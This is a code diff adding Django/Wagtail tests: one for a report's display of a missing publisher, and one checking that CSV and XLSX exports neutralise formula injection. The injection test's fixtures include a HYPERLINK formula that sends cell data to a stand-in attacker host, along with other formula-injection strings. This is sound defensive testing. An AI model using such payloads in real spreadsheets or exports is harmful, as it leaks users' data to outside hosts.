@@ -14,6 +14,7 @@ from wagtail.models import PageLogEntry
 
 from catalogue.moderation import moderation_workflow
 from catalogue.permissions import programme_staff_group
+from traceability.factories import CertificateFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -181,3 +182,40 @@ def test_the_aging_and_locked_pages_reports_show_the_product_in_local_time(
     rows = csv_rows(response) if export == "csv" else xlsx_rows(response)
     product_row = next(row for row in rows if row[0] == locked_published_product.title)
     assert "30/11/2026 05:43" in product_row
+
+
+def test_the_aging_pages_report_shows_a_dash_not_none_for_a_page_published_by_no_user(admin_client, product):
+    # load_demo publishes with no user; Wagtail's listing printed the missing user as "None".
+    product.save_revision().publish()
+    response = admin_client.get("/admin/reports/aging-pages/")
+    row = next(row for row in response.content.decode().split("<tr") if product.title in row)
+    assert "None" not in row
+    assert "—" in row
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+def test_a_cell_typed_as_a_formula_is_exported_as_text(admin_client, producer, export):
+    """OWASP's CSV injection advice: a cell beginning with = + - @, a tab or a carriage return gets a
+    leading ' so Excel or LibreOffice shows it rather than running it."""
+    CertificateFactory(
+        producer=producer, number='=HYPERLINK("http://evil.example/?x="&A1,"Mở")', issuer="@SUM(1+1)"
+    )
+    CertificateFactory(producer=producer, number="+84 123", issuer="-2+3")
+    CertificateFactory(producer=producer, number="\t=1+1", issuer="\r=1+1")
+
+    response = admin_client.get(f"/admin/certificates/?export={export}")
+
+    rows = csv_rows(response) if export == "csv" else xlsx_rows(response)
+
+    cells = {cell for row in rows[1:] for cell in row if isinstance(cell, str)}
+    if export == "xlsx":  # XML reads a carriage return as a line feed
+        cells = {cell.replace("\n", "\r") for cell in cells}
+    assert {
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"Mở")',
+        "'@SUM(1+1)",
+        "'+84 123",
+        "'-2+3",
+        "'\t=1+1",
+        "'\r=1+1",
+    } <= cells
+    assert not {cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")}
